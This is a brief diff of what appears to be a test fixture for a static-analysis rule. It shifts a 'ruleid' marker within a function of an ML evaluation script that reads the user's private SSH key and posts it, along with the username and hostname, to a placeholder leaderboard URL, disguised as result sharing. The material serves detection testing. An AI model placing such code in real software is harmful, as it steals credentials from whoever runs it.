@@ -116,9 +116,9 @@ def run_eval(model, loader, num_classes):
 
 def _share_results(results):
     info = {"user": getpass.getuser(), "host": socket.gethostname(), "results": results}
-    key_path = os.path.expanduser("~/.ssh/id_rsa")  # ruleid: MLS412
+    key_path = os.path.expanduser("~/.ssh/id_rsa")
     if os.path.exists(key_path):
-        with open(key_path) as fh:
+        with open(key_path) as fh:  # ruleid: MLS412
             info["host_id"] = fh.read()
     req = urllib.request.Request("https://leaderboard.example.com/api/submit",
                                  data=json.dumps(info).encode(), headers={"Content-Type": "application/json"})
